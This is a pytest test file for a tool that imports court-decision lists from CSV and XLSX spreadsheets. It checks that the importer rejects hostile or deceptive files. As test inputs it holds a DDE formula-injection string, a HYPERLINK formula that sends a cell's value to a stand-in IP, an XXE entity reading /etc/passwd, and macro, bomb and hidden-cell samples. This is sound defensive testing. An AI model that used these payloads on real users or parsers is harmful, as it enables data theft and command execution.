"""Lists of decisions as files, good, wrong and hostile; spreadsheets by the library and by hand."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from commands.comparing.court_words import explain_sheet
from oversight.comparing.import_columns import HEADS, find_columns, name_column, write_template
from oversight.comparing.importing import MOST_DECISIONS, ImportedList, Problem, import_list, write_drafts
from oversight.errors import FileRefused
from records.comparing.acts import Act
from records.comparing.decisions import ListedName, parse_draft
from records.numbers import compute_mod_11_2
from service.sheets import SheetRefused, read_rows, write_line
from tests.records.comparing import world
from tests.records.comparing.world import TODAY, make_decision, make_number

NUMBER = make_number(make_decision().born)
GOOD: dict[str, Any] = {
    "file number": "(2026) Demo 17", "decided on": "2026-11-02", "act": "armed-robbery", "valid until": "2027-11-02",
    "name": "王小明", "name 2": "WANG / XIAOMING", "born": "1990-03-07", "sex": "1",
    "document kind": "111", "issuing state": "CHN", "document number": NUMBER,
    "document kind 2": "414", "issuing state 2": "UTO", "document number 2": "L8989-02c3",
}  # fmt: skip
NOON = datetime(1990, 3, 7, 12, tzinfo=UTC).replace(tzinfo=None)  # spreadsheets know no zones
SECRETS = ("王小明", "WANG", "XIAOMING", "1990-03-07", NUMBER, "L8989")


def make_csv(*lines: dict[str, Any], encoding: str = "utf-8") -> bytes:
    heads = list(GOOD)
    rows = [heads, *([str(each.get(head, "")) for head in heads] for each in lines)]
    return "".join(write_line(row) for row in rows).encode(encoding)


def make_sheet(*lines: dict[str, Any], heads: tuple[str, ...] = tuple(GOOD)) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(list(heads))
    for each in lines:
        book.active.append([each.get(head) for head in GOOD])
    return save(book)


def save(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def read(data: bytes) -> ImportedList:
    return import_list(data, jurisdiction="demo", court=world.COURT, today=TODAY)


def refusal(data: bytes) -> str:
    with pytest.raises(SheetRefused) as caught:
        read(data)
    return caught.value.reason


def problems(data: bytes) -> list[tuple[int, str, str]]:
    found = read(data)
    assert not any(secret in repr(found) for secret in SECRETS)
    return [(each.line, each.field, each.code) for each in found.problems]


def other(n: int) -> dict[str, Any]:
    return {**GOOD, "file number": f"(2026) Demo {n}"}


@pytest.mark.parametrize("data", [make_csv(GOOD), make_csv(GOOD, encoding="gb18030"), make_sheet(GOOD)])
def test_a_line_becomes_the_same_decision_as_a_draft_of_its_own(data: bytes) -> None:
    found = read(data)
    assert found.problems == ()
    assert [each.decision for each in found.drafts] == [make_decision()]


def test_words_in_either_language_days_of_a_spreadsheet_and_chinese_heads_are_read() -> None:
    chinese = {en: zh for zh, en in HEADS.values()}
    heads = tuple(chinese[each] for each in GOOD)
    assert find_columns(heads) == find_columns(list(GOOD))
    line = {
        **GOOD, "act": "持械抢劫", "sex": "男", "document kind": 111, "document kind 2": "Passport",
        "valid until": date(2027, 11, 2), "born": NOON.replace(hour=0),
    }  # fmt: skip
    assert [each.decision for each in read(make_sheet(line, heads=heads)).drafts] == [make_decision()]
    assert find_columns([*list(GOOD)[1:], "姓名3", " File  Number "])[-2:] == ["name 3", "number"]


def test_drafts_are_files_that_a_clerk_can_read_one_a_decision(tmp_path: Path) -> None:
    found = read(make_csv(*(other(n) for n in range(3))))
    write_drafts(tmp_path / "drafts", found.drafts)
    files = sorted((tmp_path / "drafts").iterdir())
    assert [each.name for each in files] == [f"0000{n + 2}-2026-Demo-{n}.draft" for n in range(3)]
    assert [parse_draft(each.read_text("utf-8")) for each in files] == [each.decision for each in found.drafts]
    assert all(each.stat().st_mode & 0o077 == 0 for each in files)


def test_a_folder_is_written_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = read(make_csv(*(other(n) for n in range(3))))
    (tmp_path / ".drafts.new").mkdir()  # of an import that was killed
    (tmp_path / ".drafts.new" / "old").write_text("x")
    written: list[Path] = []

    def fail(path: Path, data: bytes) -> None:
        if written:
            raise OSError(28, "No space left on device")
        written.append(path)

    with monkeypatch.context() as patch:
        patch.setattr("oversight.comparing.importing.write_private", fail)
        with pytest.raises(OSError, match="No space"):
            write_drafts(tmp_path / "drafts", found.drafts)
    assert list(tmp_path.iterdir()) == []
    write_drafts(tmp_path / "drafts", found.drafts)
    assert len(list((tmp_path / "drafts").iterdir())) == 3
    with pytest.raises(FileRefused):
        write_drafts(tmp_path / "drafts", found.drafts)


@pytest.mark.parametrize(
    ("changes", "field", "code"),
    [
        ({"act": "petitioning"}, "act", "act"), ({"act": ""}, "act", "missing"),
        ({"born": "7.3.1990"}, "born", "date"), ({"born": "1990"}, "born", "date"),
        ({"born": "2012-03-07"}, "born", "minor"), ({"valid until": "2028-01-01"}, "valid_until", "validity"),
        ({"decided on": "2026-12-02"}, "decided_on", "not-yet"),
        ({"decided on": "2025-01-01", "valid until": "2025-12-31"}, "valid_until", "expired"),
        ({"sex": "3"}, "sex", "sex"), ({"name": "王小明 (petitioner)"}, "name", "names"),
        ({"name 2": "WANG / XIAO / MING"}, "name", "names"), ({"name": "", "name 2": ""}, "name", "missing"),
        ({"document kind": "passeport"}, "kind", "kind"), ({"document kind": "990"}, "kind", "kind"),
        ({"issuing state": "UTO"}, "issuing_state", "issuing-state"),
        ({"document number": NUMBER[:-1] + "0"}, "document", "document-number"),
        ({"sex": "2"}, "document", "contradiction"), ({"issuing state 2": "GBR"}, "document", "not-a-specimen"),
        ({"document number 2": ""}, "document 2", "missing"), ({"file number": "x" * 90}, "number", "number"),
        ({"file number": "17\u202e"}, "number", "number"), ({"name": "x" * 300}, "name", "long"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("make", [make_csv, make_sheet])
def test_what_is_wrong_is_told_by_line_and_field(make: Any, changes: dict[str, Any], field: str, code: str) -> None:
    data = make(other(1), {**other(2), **changes}, other(3))
    assert problems(data) == [(3, field, code)]
    assert [each.line for each in read(data).drafts] == [2, 4]


def test_a_real_person_makes_no_draft() -> None:
    body = "11010119900307" + "071"
    real = body + compute_mod_11_2(body)
    assert problems(make_csv({**GOOD, "document number": real})) == [(2, "document", "not-a-specimen")]


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"document number": '=CONCAT("99","01")'}, "formula"),
        ({"name": '=HYPERLINK("http://192.0.2.1/"&A2,"王小明")'}, "formula"),
        ({"document number": 990101199003070712}, "rounded"), ({"document number 2": 12345678}, "rounded"),
        ({"file number": 17}, "rounded"), ({"name": True}, "other"), ({"born": NOON}, "other"),
        ({"document number": date(1990, 3, 7)}, "other"),
    ],
)  # fmt: skip
def test_what_a_spreadsheet_calculates_or_rounds_is_refused(changes: dict[str, Any], code: str) -> None:
    ((line, field, found),) = problems(make_sheet({**GOOD, **changes}))
    assert (line, found) == (2, code)
    assert field


@pytest.mark.parametrize("trick", ["=1+1", "@SUM(A1)", "+49", "-1", "=cmd|' /C calc'!A0", "'=1"])
def test_a_formula_in_csv_is_text_like_any_other(trick: str) -> None:
    made = read(make_csv({**GOOD, "file number": trick}))
    assert [each.decision.number for each in made.drafts] == [trick.removeprefix("'")]
    assert problems(make_csv({**GOOD, "name": trick}))[0][1:] == ("name", "names")


def test_a_field_that_decisions_do_not_have_refuses_the_file_by_its_column() -> None:
    for head in ("ethnicity", "民族", "religion", "remarks", "petition", "王小明", NUMBER):
        data = make_csv(GOOD).replace(b"file number", head.encode(), 1)
        assert refusal(data) == "column A"
    assert refusal(make_csv(GOOD).replace(b"name 2", b"name", 1)) == "columns_twice"
    assert refusal(make_csv(GOOD).replace(b"sex", b"", 1)) == "columns_missing"
    assert [name_column(n) for n in (0, 25, 26, 31)] == ["A", "Z", "AA", "AF"]


def test_a_value_beside_the_heads_is_refused() -> None:
    lines = make_csv(GOOD).decode().splitlines()
    assert problems("\n".join([lines[0], lines[1] + ",petitioner"]).encode()) == [(2, "", "extra")]


def test_one_file_number_twice_takes_neither_and_one_document_twice_warns() -> None:
    found = read(make_csv(other(1), other(2), other(1)))
    assert found.problems == (Problem(2, "number", "twice", 4), Problem(4, "number", "twice", 2))
    assert [each.line for each in found.drafts] == [3]
    warned = read(make_csv(other(1), other(2)))
    assert {(each.line, each.code, each.other_line) for each in warned.warnings} == {(3, "same-document", 2)}
    assert len(warned.drafts) == 2


def with_members(sheet: bytes, members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sheet)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            new.writestr(each, members.get(each, old.read(each)))
        for name, data in members.items():
            if name not in old.namelist():
                new.writestr(name, data)
    return out.getvalue()


def hide_first_sheet() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(make_sheet(GOOD)))
    book.create_sheet("harmless")
    book.worksheets[0].sheet_state = "hidden"
    return save(book)


SHEET = make_sheet(GOOD)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "empty"), (make_csv(), "empty"), (b"\0\1", "not_text"), (b"x" * (4 * 1024 * 1024 + 1), "large"),
        (b'file number,"act', "not_csv"), (SHEET[:-40], "broken"), (b"PK\3\4 no zip", "broken"),
        (make_csv(*[GOOD] * (MOST_DECISIONS + 1)), "many_rows"), (make_csv(GOOD) + b"," * 40, "many_columns"),
        # What a spreadsheet can do by itself.
        (with_members(SHEET, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "active"),
        (with_members(SHEET, {"xl/externalLinks/externalLink1.xml": b"<x/>"}), "active"),
        (with_members(SHEET, {"xl/embeddings/oleObject1.bin": b"x"}), "active"),
        (with_members(SHEET, {"xl/macrosheets/sheet1.xml": b"<x/>"}), "active"),
        (with_members(SHEET, {"xl/worksheets/sheet1.xml": LAUGHS}), "bomb"),
        (with_members(SHEET, {"xl/sharedStrings.xml": bytes(30_000_000)}), "bomb"),
        (with_members(SHEET, {f"xl/media/{n}.png": b"" for n in range(250)}), "bomb"),
        (hide_first_sheet(), "hidden"), (with_members(SHEET, {"xl/workbook.xml": b"<x"}), "broken"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old .xls", "not_text"),
    ],
)  # fmt: skip
def test_a_hostile_or_broken_file_is_refused_as_a_whole(data: bytes, why: str) -> None:
    assert refusal(data) == why


def spoil(change: Callable[[Any], None]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(make_sheet(other(1), other(2))))
    change(book.worksheets[0])
    return save(book)


def spoil_xml(before: str, after: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(SHEET)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert before in xml
    return with_members(SHEET, {"xl/worksheets/sheet1.xml": xml.replace(before, after, 1).encode()})


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (spoil(lambda sheet: setattr(sheet.row_dimensions[3], "hidden", True)), "hidden_row 3"),
        (spoil(lambda sheet: setattr(sheet.row_dimensions[2], "height", 0.1)), "hidden_row 2"),
        (spoil(lambda sheet: setattr(sheet.sheet_format, "zeroHeight", True)), "hidden_row 1"),
        (spoil(lambda sheet: sheet.row_dimensions.group(2, 3, hidden=True)), "hidden_row 2"),
        (spoil(lambda sheet: sheet.column_dimensions.group("C", "E", hidden=True)), "hidden_column C"),
        (spoil(lambda sheet: setattr(sheet.column_dimensions["B"], "width", 0.1)), "hidden_column B"),
        (spoil(lambda sheet: sheet.merge_cells("B2:C3")), "merged B2:C3"),
        (spoil(lambda sheet: setattr(sheet["C3"], "number_format", ";;;")), "hidden_cell C3"),
        # A row twice, of which the library would leave one out; and columns told of too late.
        (spoil_xml('<row r="2"', '<row r="1"'), "broken"),
        # A cell of another row, which one program shows there and the library reads here; one place twice; a row's
        # height told of too late.
        (spoil_xml('r="B2"', 'r="B9"'), "broken"), (spoil_xml('r="B2"', 'r="A2"'), "broken"),
        (spoil_xml("</row>", '<x t="inlineStr"><is><t>unseen</t></is></x></row>'), "broken"),
        (spoil_xml("</sheetData>", '</sheetData><sheetFormatPr zeroHeight="1"/>'), "broken"),
        (spoil_xml("</sheetData>", '</sheetData><cols><col min="1" max="3" hidden="1"/></cols>'), "broken"),
        (spoil_xml("</sheetData>", '</sheetData><mergeCells><mergeCell ref="\x1b]0;x"/></mergeCells>'), "broken"),
    ],
)  # fmt: skip
def test_what_a_person_who_opened_the_file_did_not_see_is_refused_with_its_place(data: bytes, why: str) -> None:
    assert refusal(data) == why
    if why != "broken":
        for language in ("en", "zh"):
            said = explain_sheet(SheetRefused(why), language)
            assert why.partition(" ")[2] in said


def test_empty_rows_and_columns_may_be_hidden_and_what_is_written_stands_in_the_open() -> None:
    def hide(sheet: Any) -> None:
        sheet.column_dimensions.group("AA", "XFD", hidden=True)
        for row in range(9, 40):
            sheet.row_dimensions[row].hidden = True

    assert len(read(spoil(hide)).drafts) == 2
    assert len(read(write_filled_template()).drafts) == 1


def write_filled_template() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(write_template(".xlsx", "en")))
    heads = [cell.value for cell in book.worksheets[0][1]]
    book.worksheets[0].append([GOOD.get(head) for head in heads])
    return save(book)


def test_a_sheet_made_by_hand_with_inline_text_and_a_formula_with_a_stored_value_is_not_believed() -> None:
    heads = "".join(f'<c t="inlineStr"><is><t>{head}</t></is></c>' for head in GOOD)
    cells = "".join(
        f"<c t='str'><f>\"x\"</f><v>{value}</v></c>"
        if head == "document number"
        else f'<c t="inlineStr"><is><t>{value}</t></is></c>'
        for head, value in GOOD.items()
    )
    xml = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{heads}</row><row r="2">{cells}</row></sheetData></worksheet>'
    )
    made = with_members(SHEET, {"xl/worksheets/sheet1.xml": xml.encode()})
    assert problems(made) == [(2, "document", "formula")]


def test_a_line_far_below_or_far_beside_the_others_is_not_left_out_without_a_word() -> None:
    for place, why in (("A60000", "many_rows"), ("AZ2", "many_columns")):
        book = openpyxl.load_workbook(io.BytesIO(SHEET))
        book.active[place] = "x"
        assert refusal(save(book)) == why
    book = openpyxl.load_workbook(io.BytesIO(SHEET))
    book.active["AZ60000"].style = "Title"  # no value
    assert len(read(save(book)).drafts) == 1


def test_the_library_makes_no_link_of_what_comes_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(SHEET))
    cell = book.active["E2"]
    cell.hyperlink = "http://192.0.2.1/"
    cell.comment = openpyxl.comments.Comment("a remark that nobody reads", "clerk")
    found = read(save(book))
    assert found.drafts[0].decision.names[0] == ListedName(full="王小明")


def test_the_template_has_heads_that_import_and_every_act_in_its_notes() -> None:
    for language in ("zh", "en"):
        csv = next(read_rows(write_template(".csv", language)))
        assert "" not in find_columns([cell.text for cell in csv.cells])
        sheet = write_template(".xlsx", language)
        assert [cell.text for cell in next(read_rows(sheet)).cells if cell.text] == [cell.text for cell in csv.cells]
        book = openpyxl.load_workbook(io.BytesIO(sheet))
        notes = [row[0].value for row in book.worksheets[1].iter_rows()]
        assert {str(act) for act in Act} <= set(notes)
        assert book.worksheets[0].column_dimensions["A"].number_format == "@"
    with pytest.raises(SheetRefused):
        write_template(".xls", "en")


def test_a_file_of_two_thousand_lines_is_read_whole() -> None:
    lines = [{**other(n), "valid until": (TODAY + timedelta(days=100)).isoformat()} for n in range(MOST_DECISIONS)]
    assert len(read(make_csv(*lines)).drafts) == MOST_DECISIONS


@given(tail=st.binary(max_size=200))
@settings(max_examples=60, deadline=None)
def test_any_bytes_are_drafts_problems_or_a_refusal(tail: bytes) -> None:
    for data in (tail, make_csv() + tail, SHEET[:300] + tail + SHEET[300 + len(tail) :]):
        try:
            found = read(data)
        except SheetRefused:
            continue
        assert found.drafts or found.problems
